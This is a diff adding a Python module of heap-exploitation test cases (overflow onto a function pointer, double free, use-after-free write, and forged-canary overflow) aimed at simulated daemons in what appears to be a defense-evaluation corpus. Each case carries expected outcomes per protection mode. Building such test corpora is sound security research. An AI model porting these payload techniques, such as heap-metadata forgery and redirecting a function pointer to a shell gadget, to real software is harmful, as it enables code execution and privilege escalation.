@@ -1,0 +1,168 @@
+"""Heap-lifetime attacks: overflow, double free, UAF, canary forgery.
+
+Every craft performs *reconnaissance*: it replays the victim's
+deterministic allocation/registration sequence in a scratch process to
+learn buffer distances, gadget addresses and (for the canary forgery)
+the exact metadata bytes between two chunks.
+"""
+
+from __future__ import annotations
+
+from repro.apps import AUTHD, HEAPD
+from repro.apps.authd import HANDLER_RECORD, NAME_BUFFER
+from repro.apps.authd import gadget_addresses as authd_gadgets
+from repro.apps.heapd import (
+    CMD_BUFFER,
+    NOTE_BUFFER,
+    SLOT_BUFFER,
+)
+from repro.apps.heapd import HANDLER_RECORD as HEAPD_RECORD
+from repro.apps.heapd import gadget_addresses as heapd_gadgets
+from repro.runtime import SimProcess
+from repro.security.corpus.model import (
+    Attack,
+    _address_bytes,
+    _got_root,
+    _service_disrupted,
+)
+
+
+def craft_heap_smash() -> bytes:
+    """Recreate authd's heap layout to aim the overflow at the handler.
+
+    The daemon mallocs the 24-byte name buffer and then the handler
+    record; with the boundary-tag allocator they are adjacent.  The
+    payload fills the distance with non-NUL bytes (clobbering the chunk
+    header on the way — nobody checks before the dispatch) and lands the
+    shell gadget's address on the function-pointer slot.
+    """
+    scout = SimProcess()
+    gadgets = authd_gadgets(scout)
+    name_buffer = scout.heap.malloc(NAME_BUFFER)
+    handler_record = scout.heap.malloc(HANDLER_RECORD)
+    distance = handler_record - name_buffer
+    return b"A" * distance + _address_bytes(gadgets["shell"]) + b"\n"
+
+
+def craft_double_free() -> bytes:
+    """Free the same slot twice: the second free hits a dead chunk.
+
+    Unprotected, the allocator aborts (or worse, corrupts its free
+    list); the guard's invalid-free check must refuse the second call.
+    """
+    return b"ALLOC 48\nFREE 1\nFREE 1\nQUIT\n"
+
+
+def craft_uaf_write() -> bytes:
+    """strcpy through a dangling slot pointer after its buffer is freed.
+
+    Slot 2 is allocated right after slot 1, so the dangling write runs
+    out of the dead chunk and over the *live* neighbour's header —
+    silent metadata corruption the integrity walk must be able to see;
+    the guard refuses the write outright because the destination is no
+    longer a live allocation.
+    """
+    return (b"ALLOC 40\nALLOC 40\nFREE 1\nPUT 1 " + b"U" * 80
+            + b"\nQUIT\n")
+
+
+def _heapd_scout() -> tuple:
+    """Replay heapd's startup allocations in a canary-armed process."""
+    scout = SimProcess(heap_canaries=True)
+    gadgets = heapd_gadgets(scout)
+    scout.heap.malloc(CMD_BUFFER)
+    scout.heap.malloc(NOTE_BUFFER)
+    victim = scout.heap.malloc(SLOT_BUFFER)
+    record = scout.heap.malloc(HEAPD_RECORD)
+    return scout, gadgets, victim, record
+
+
+def craft_canary_bypass() -> bytes:
+    """Overflow slot 0 into the handler record with *forged* metadata.
+
+    ``RAW`` reads with ``gets()``, which passes NUL bytes through, so
+    the payload can reproduce the slot's trailing canary and the next
+    chunk's header byte-for-byte (read from the scout — the values are
+    deterministic) before landing the shell gadget's full 8-byte address
+    on the function pointer.  Heap verification then finds nothing
+    wrong; only a bounded read (safe gets) stops the overflow itself.
+    """
+    scout, gadgets, victim, record = _heapd_scout()
+    between = scout.space.read(victim + SLOT_BUFFER,
+                               record - victim - SLOT_BUFFER)
+    body = (b"C" * SLOT_BUFFER + between
+            + gadgets["shell"].to_bytes(8, "little"))
+    if b"\n" in body:
+        raise ValueError("forged metadata contains a newline byte; "
+                         "the gets()-carried payload cannot express it")
+    return b"RAW 0\n" + body + b"\nRUN\nQUIT\n"
+
+
+OVERFLOW_ADJACENT = Attack(
+    name="heap-smash",
+    attack_class="overflow-adjacent",
+    app=AUTHD,
+    craft=craft_heap_smash,
+    hijacked=_got_root,
+    description="[3]-style heap overflow redirecting a function pointer "
+                "to a shell gadget (demo 3.4's first half)",
+    expected={
+        "unwrapped": ("escaped",),
+        "robustness": ("escaped",),
+        "security": ("detected",),
+        "hardened": ("detected",),
+        "recovery": ("contained",),
+    },
+)
+
+DOUBLE_FREE_CHAIN = Attack(
+    name="double-free",
+    attack_class="double-free-chain",
+    app=HEAPD,
+    craft=craft_double_free,
+    hijacked=_service_disrupted,
+    description="double free of a slot buffer: allocator abort / "
+                "free-list corruption DoS",
+    expected={
+        "unwrapped": ("escaped",),
+        "robustness": ("escaped",),
+        "security": ("detected",),
+        "hardened": ("detected",),
+        "recovery": ("contained",),
+    },
+)
+
+UAF_WRITE = Attack(
+    name="uaf-write",
+    attack_class="use-after-free-write",
+    app=HEAPD,
+    craft=craft_uaf_write,
+    hijacked=_service_disrupted,
+    description="write through a dangling pointer into freed allocator "
+                "memory",
+    expected={
+        "unwrapped": ("escaped",),
+        "robustness": ("escaped",),
+        "security": ("detected",),
+        "hardened": ("detected",),
+        "recovery": ("contained",),
+    },
+)
+
+CANARY_BYPASS = Attack(
+    name="canary-bypass",
+    attack_class="canary-bypass",
+    app=HEAPD,
+    craft=craft_canary_bypass,
+    hijacked=_got_root,
+    description="overflow carrying forged canary + chunk header so heap "
+                "verification passes; only bounded reads stop it",
+    expected={
+        "unwrapped": ("escaped",),
+        "robustness": ("escaped",),
+        "security": ("contained",),
+        "hardened": ("contained",),
+        "recovery": ("contained",),
+    },
+    process_kwargs={"heap_canaries": True},
+)
